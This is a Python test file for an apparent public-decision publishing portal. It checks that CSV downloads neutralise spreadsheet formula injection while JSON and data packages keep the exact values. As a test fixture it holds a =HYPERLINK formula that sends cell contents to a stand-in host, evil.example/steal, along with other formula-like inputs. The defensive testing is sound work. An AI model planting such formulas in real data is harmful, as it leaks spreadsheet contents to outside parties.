"""CSV (formula) injection: published text that starts like a spreadsheet formula is
neutralised in every CSV people open in a spreadsheet, and stays exact in JSON."""

from __future__ import annotations

import csv
import datetime as dt
import io
from decimal import Decimal
from pathlib import Path
from typing import Any

import frictionless
import pytest
from sqlalchemy import select

from portal.render import csv_cell
from publisher.intake import ingest as intake
from publisher.lifecycle.actors import SYSTEM
from publisher.lifecycle.tick import tick
from publisher.lifecycle.transitions import Lifecycle
from publisher.models import PublicDecision
from publisher.outputs import packages
from publisher.outputs import refresh as outputs
from publisher.runtime import Runtime
from tests import factories as f
from tests.portal.test_office_complaints import login
from tests.publisher.lifecycle_helpers import at

LINK = '=HYPERLINK("https://evil.example/steal?x="&A1,"点击查看")'
FORMULAS = [LINK, "+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1"]
FIELDS = ["target_name", "legal_basis", "result"]
# Intake trims leading blanks from fields, but a withdrawal's basis is kept as typed.
WITHDRAWN = {"测市监罚决〔2026〕41号": "\t=1", "测市监罚决〔2026〕42号": "\r=1"}


def planted_decisions() -> list[dict[str, Any]]:
    """One company decision per formula, carried in each published text field."""
    return [
        f.decision(
            id=f"测市监罚决〔2026〕{30 + n}号",
            decision_date="2026-05-06",
            **dict.fromkeys(FIELDS, formula),
        )
        for n, formula in enumerate(FORMULAS)
    ]


@pytest.fixture
def planted(published: Runtime, tmp_path: Path) -> Runtime:
    """Publish the planted decisions and an agency named like a formula, then withdraw two
    decisions on bases that start with a tab and a carriage return."""
    files = {
        "agencies": [f.agency(code="T-EVIL", name=LINK, name_en="+1 Evil")],
        "decisions": [
            *planted_decisions(),
            *(f.decision(id=doc_no, decision_date="2026-05-06") for doc_no in WITHDRAWN),
        ],
    }
    for kind, rows in files.items():
        report = intake.ingest(
            published.sessions, f.write_jsonl(tmp_path / f"planted-{kind}.jsonl", rows), now=at("2026-05-08")
        )
        assert report.ok, report.problems
    with published.sessions() as s, s.begin():
        tick(s, at("2026-05-08"), published.calendar, published.config)
        for doc_no, basis in WITHDRAWN.items():
            gone = s.scalars(select(PublicDecision).where(PublicDecision.doc_no == doc_no)).one()
            Lifecycle(s, published.calendar, published.config).withdraw(
                gone, "revoked", basis, dt.date(2026, 5, 20), at("2026-05-21"), SYSTEM
            )
    outputs.refresh(published)
    f.add_staff(published)
    return published


def csv_rows(client: Any, path: str) -> list[dict[str, str]]:
    """The rows of a CSV download, read as a spreadsheet's import would."""
    with client.get(path) as response:
        assert response.status_code == 200, path
        text = response.get_data(as_text=True)
    assert text.startswith("\ufeff")
    return list(csv.DictReader(io.StringIO(text[1:], newline="")))


def test_decisions_csv_neutralises_formulas_and_json_keeps_them(client: Any, planted: Runtime) -> None:
    rows = {r["doc_no"]: r for r in csv_rows(client, "/decisions.csv")}
    day = client.get("/decisions.json?from=2026-05-06&to=2026-05-06").get_json()
    assert day["pages"] == 1
    exact = {d["doc_no"]: d for d in day["results"]}
    for record in planted_decisions():
        doc_no = record["id"]
        for name in FIELDS:
            value = exact[doc_no][name]
            assert value == record[name].lstrip(), (doc_no, name)  # intake trims leading blanks
            assert rows[doc_no][name] == "'" + value, (doc_no, name)
        assert rows[doc_no]["fine_amount"] == str(exact[doc_no]["fine_amount"])  # numbers untouched
    untouched = rows["测市监罚决〔2025〕1号"]
    assert untouched["target_name"] == "测试食品有限公司" and untouched["decision_date"] == "2025-06-02"


def test_public_agencies_csv_neutralises_a_formula_name(client: Any, planted: Runtime) -> None:
    rows = {r["code"]: r for r in csv_rows(client, "/agencies.csv")}
    assert rows["T-EVIL"]["name"] == "'" + LINK
    assert rows["T-SCJG"]["name"] == "测试区市场监督管理局"


def test_office_exports_neutralise_formulas(client: Any, planted: Runtime) -> None:
    login(client, "sup1")
    agencies = {r["agency"]: r for r in csv_rows(client, "/office/supervision/agencies.csv")}
    assert agencies["T-EVIL"]["agency_name"] == "'" + LINK
    assert agencies["T-SCJG"]["published"].isdigit()  # a count stays a plain number
    withdrawals = {r["doc_no"]: r for r in csv_rows(client, "/office/supervision/withdrawals.csv")}
    for doc_no, basis in WITHDRAWN.items():
        assert withdrawals[doc_no]["basis"] == "'" + basis
    assert withdrawals["测市监罚决〔2026〕9号"]["basis"] == "测试区人民政府行政复议决定"


def test_data_packages_keep_exact_values_and_say_so(client: Any, planted: Runtime) -> None:
    root = Path(planted.config["DATA_DIR"]) / "packages"
    with planted.sessions() as s:
        packages.export_all(s, root, at("2026-06-01"), planted.config)
    package = frictionless.Package(str(root / "full" / "latest" / "datapackage.json"))
    assert "not escaped" in str(package.description)
    decisions = {r["doc_no"]: r for r in package.get_table_resource("decisions").read_rows()}
    for record in planted_decisions():
        for name in FIELDS:
            assert decisions[record["id"]][name] == record[name].lstrip(), (record["id"], name)
    withdrawals = {r["doc_no"]: r for r in package.get_table_resource("withdrawals").read_rows()}
    assert {doc_no: withdrawals[doc_no]["basis"] for doc_no in WITHDRAWN} == WITHDRAWN
    with client.get("/data/packages/full/latest/withdrawals.csv") as response:
        served = list(csv.DictReader(io.StringIO(response.get_data(as_text=True), newline="")))
    assert {r["doc_no"]: r["basis"] for r in served if r["doc_no"] in WITHDRAWN} == WITHDRAWN


def test_every_cell_is_quoted(client: Any, planted: Runtime) -> None:
    with client.get("/decisions.csv") as response:
        header, first = response.get_data(as_text=True).lstrip("\ufeff").splitlines()[:2]
    assert header.startswith('"public_id","doc_no","agency",')
    assert first.startswith('"') and '","' in first


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        (-3, -3),
        (Decimal("-1.50"), Decimal("-1.50")),
        (-0.5, -0.5),
        (None, None),
        ("-3", "'-3"),
        ("+86 138 0000 0000", "'+86 138 0000 0000"),
        ("-", "'-"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("2026-05-06", "2026-05-06"),
        (dt.date(2026, 5, 6), "2026-05-06"),
        ("测试 =1", "测试 =1"),
    ],
    ids=[
        "negative-int",
        "negative-decimal",
        "negative-float",
        "empty",
        "text-minus-number",
        "phone",
        "dash",
        "tab",
        "carriage-return",
        "iso-date-text",
        "date",
        "formula-inside",
    ],
)
def test_only_text_cells_are_prefixed(value: Any, cell: Any) -> None:
    assert csv_cell(value) == cell
